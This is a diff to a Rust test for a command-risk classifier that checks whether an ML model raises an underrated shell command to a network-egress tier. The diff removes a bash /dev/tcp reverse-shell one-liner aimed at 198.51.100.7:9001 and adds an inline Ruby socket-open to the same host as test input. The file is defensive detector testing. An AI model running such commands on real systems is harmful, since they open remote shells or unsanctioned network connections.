@@ -47,12 +47,13 @@ fn without_the_model_the_record_says_heuristics_only() {
     assert!(status.contains("heuristic tiers only"), "{status}");
 }
 
-/// A reverse shell through bash's `/dev/tcp`: the heuristics call it `low_write`, the model
-/// (trained on nearby exemplars, not on this command) raises it to `network_egress`.
+/// A socket opened from inline Ruby: the heuristics call it `low_write` (their network rule for
+/// interpreters covers Python only), the model (trained on nearby exemplars, not on this
+/// command) raises it to `network_egress`.
 #[cfg(feature = "ml")]
 #[test]
 fn the_model_raises_an_underrated_command_and_the_run_pauses() {
-    let command = "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1";
+    let command = "ruby -rsocket -e 'TCPSocket.open(\"198.51.100.7\", 9001)'";
     let heuristic = secureclaw()
         .args(["risk", "--json", command])
         .output()
